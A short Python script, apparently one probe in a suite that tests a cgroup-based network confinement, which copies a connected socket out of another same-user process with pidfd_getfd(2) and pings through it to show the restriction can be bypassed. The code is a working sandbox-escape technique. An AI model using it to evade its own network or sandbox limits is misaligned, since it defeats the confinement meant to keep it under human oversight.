"""Technique: take a socket from another process of the same user with pidfd_getfd(2) and use it.

A socket is judged by the cgroup it was created in, so a connected socket
copied out of a same-uid process outside the pinned cgroup keeps its
direct path. pidfd_getfd needs ptrace access to the victim (same uid and
dumpable; Yama ptrace_scope >= 1 limits it to descendants).
argv: PID FD. ok = a ping through the stolen socket got its answer.
"""
import ctypes
import os
import socket
import sys
import common

SYS_pidfd_getfd = 438   # same number on every architecture (unified syscall table)


def attempt():
    pid, fd = int(sys.argv[1]), int(sys.argv[2])
    libc = ctypes.CDLL(None, use_errno=True)
    pidfd = os.pidfd_open(pid)
    nfd = libc.syscall(SYS_pidfd_getfd, pidfd, fd, 0)
    if nfd < 0:
        e = ctypes.get_errno()
        raise OSError(e, "pidfd_getfd: " + os.strerror(e))
    s = socket.socket(fileno=nfd)
    s.settimeout(common.TIMEOUT)
    tok = common.token()
    common.ping(s, tok)
    return {"token": tok}


common.main(attempt)
